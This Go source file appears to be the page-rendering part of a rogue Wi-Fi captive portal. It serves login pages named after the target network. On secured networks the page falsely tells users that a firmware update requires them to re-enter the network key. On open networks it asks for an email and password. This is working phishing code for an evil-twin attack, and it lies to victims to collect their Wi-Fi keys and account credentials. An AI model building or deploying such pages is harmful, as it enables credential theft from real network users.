package portal

import (
	"html/template"
	"log"
	"net/http"
)

type pageView struct {
	SSID     string
	APName   string
	Secured  bool
	Security string
	Error    string
}

func (sess *Session) view(errMsg string) pageView {
	return pageView{
		SSID:     sess.ssid,
		APName:   sess.apName,
		Secured:  !sess.security.Open(),
		Security: sess.security.String(),
		Error:    errMsg,
	}
}

var loginPage = template.Must(template.New("login").Parse(`<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>{{.SSID}}</title>
<style>
body { font-family: sans-serif; background: #f2f4f7; margin: 0; }
.card { max-width: 360px; margin: 10vh auto; background: #fff; padding: 24px; border-radius: 8px; box-shadow: 0 2px 8px rgba(0,0,0,.1); }
input { width: 100%; padding: 10px; margin: 6px 0 14px; box-sizing: border-box; }
button { width: 100%; padding: 10px; background: #1a73e8; color: #fff; border: 0; border-radius: 4px; }
.err { color: #c5221f; }
small { color: #5f6368; }
</style>
</head>
<body>
<div class="card">
<h2>{{.SSID}}</h2>
{{if .Secured}}<p>A firmware update requires you to confirm the network key to stay connected.</p>
{{else}}<p>Sign in to continue to the internet.</p>{{end}}
{{with .Error}}<p class="err">{{.}}</p>{{end}}
<form method="POST" action="/login">
{{if not .Secured}}<label>Email</label><input name="username" type="email" autocomplete="email">{{end}}
<label>{{if .Secured}}Network key ({{.Security}}){{else}}Password{{end}}</label>
<input name="password" type="password">
<button type="submit">Connect</button>
</form>
<small>{{.APName}}</small>
</div>
</body>
</html>`))

var connectingPage = template.Must(template.New("connecting").Parse(`<!DOCTYPE html>
<html>
<head><meta charset="utf-8"><title>{{.SSID}}</title></head>
<body><p>Connecting to {{.SSID}}, please wait...</p></body>
</html>`))

func renderPage(w http.ResponseWriter, status int, v pageView) {
	render(w, status, loginPage, v)
}

func renderConnecting(w http.ResponseWriter, v pageView) {
	render(w, http.StatusOK, connectingPage, v)
}

func render(w http.ResponseWriter, status int, t *template.Template, v pageView) {
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	w.Header().Set("Cache-Control", "no-store")
	w.WriteHeader(status)
	if err := t.Execute(w, v); err != nil {
		log.Printf("[PORTAL] template %s: %v", t.Name(), err)
	}
}
